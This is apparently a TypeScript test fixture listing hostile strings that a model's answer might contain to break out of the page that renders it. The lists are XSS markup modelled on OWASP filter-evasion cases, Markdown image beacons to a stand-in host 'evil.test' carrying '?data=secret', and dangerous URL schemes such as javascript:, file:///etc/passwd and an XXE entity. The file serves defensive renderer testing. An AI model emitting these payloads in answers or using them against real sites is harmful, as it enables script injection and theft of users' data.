// What a model's answer may hold to break out of the page that shows it. Written after the OWASP list of XSS filter
// evasions and the attack cases that we test against: markup, addresses, code fences, odd characters.

/** Markup that runs a script, loads something or restyles the page wherever raw HTML is let through. */
export const hostileMarkup: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>', '<img src="https://evil.test/p.gif?data=secret">', '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=javascript:alert(1)>', '<img/src=x/onerror=alert(1)>', '<img srcset="https://evil.test/a 1x">', '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<frameset onload=alert(1)>',
  '<object data="javascript:alert(1)"></object>', '<embed src="data:text/html,<script>alert(1)</script>">', '<applet code=x>',
  '<style>@import "https://evil.test/x.css";</style>', '<style>body{background:url(https://evil.test/x)}</style>', '<link rel=stylesheet href=https://evil.test/x.css>',
  '<link rel="prefetch" href="https://evil.test/">', '<meta http-equiv="refresh" content="0;url=https://evil.test/">', '<base href="https://evil.test/">',
  '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<details open ontoggle=alert(1)>', '<video src=x onerror=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>', '<form action="https://evil.test/"><button>Go</button></form>', '<button formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href=https://evil.test target=_blank>x</a>',
  '<a onmouseover=alert(1)>x</a>', '<div style="position:fixed;inset:0;background:url(https://evil.test/x)">x</div>', '<div style=width:expression(alert(1))>',
  '<div onpointerenter=alert(1)>x</div>', '<p/onclick=alert(1)>x', '<b onmouseover="alert(1)">x</b>', '<x onclick=alert(1)>x</x>', '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<table background="javascript:alert(1)">', '<td background="https://evil.test/x">',
  '<bgsound src="javascript:alert(1)">', '<layer src="https://evil.test/x">', '<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>', '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE html><script>alert(1)</script>',
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
  '<<script>alert(1);//<</script>', '<script\x00>alert(1)</script>', '<img\x0bsrc=x\x0bonerror=alert(1)>', '<script/x>alert(1)</script>', '<script>alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '<antArtifact identifier="x" type="text/html"><script>alert(1)</script></antArtifact>',
  '```html\n<script>alert(1)</script>\n```', '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```', '```"onmouseover="alert(1)\nx\n```', '```js class="x"><script>alert(1)</script>\nx\n```',
  '$$\\href{javascript:alert(1)}{x}$$', '`<img src=x onerror=alert(1)>`', '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>alert(1)</script> | b |',
  '- <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>', '> <script>alert(1)</script>', '# <img src=x onerror=alert(1)>', '**<img src=x onerror=alert(1)>**', '<div>\n\n*x*<img src=x onerror=alert(1)>\n\n</div>',
  '\u202e<script>alert(1)</script>', '\x1b]8;;https://evil.test\x07x\x1b]8;;\x07', `e${'\u0301'.repeat(2_000)}`, '\ud800 \udc00 \u0000 \ufffe',
]

/** Images in every form that Markdown and HTML have: none may load. */
export const hostileImages: readonly string[] = [
  '![x](https://evil.test/p.png?data=secret)', '![x][i]\n\n[i]: https://evil.test/p.png', '![](https://evil.test/p.png "title")', '[![x](https://evil.test/p.png)](https://good.test/)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', '![x](data:image/png;base64,iVBORw0KGgo=)', '![x](blob:https://evil.test/1)', '![x](file:///etc/passwd)',
  '![x](//evil.test/p.png)', '![x](http://evil.test/p.png)', '![x"onerror="alert(1)](https://evil.test/p.png)', '![x](javascript:alert(1))', '![x](https://evil.test/p.png"onerror="alert(1))',
]

/** Addresses that may never reach the opener. */
export const hostileAddresses: readonly string[] = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java&#115;cript:alert(1)', 'javascript&colon;alert(1)', 'java%0ascript:alert(1)', '&#x6A;avascript:alert(1)', '%6Aavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'file:///etc/passwd', '\\\\\\\\evil.test\\\\x', 'smb://evil.test/x', 'ms-msdt:/id',
  'search-ms:query=x', 'calculator:', 'vscode://x', 'app://bundle/index.html', 'http://evil.test/', '//evil.test/', '/settings', '#x', '?x', 'mailto:a@evil.test', 'tel:1', 'ftp://evil.test/',
  'view-source:https://evil.test/', 'about:blank', 'chrome://settings', 'https://api.anthropic.com@evil.test/', 'https://user:pass@evil.test/', 'https:///', 'https://', 'blob:https://evil.test/1',
  'filesystem:https://evil.test/x', 'jar:https://evil.test!/x', 'intent://evil.test#Intent;end', 'ws://evil.test/', `https://evil.test/${'a'.repeat(3_000)}`,
]
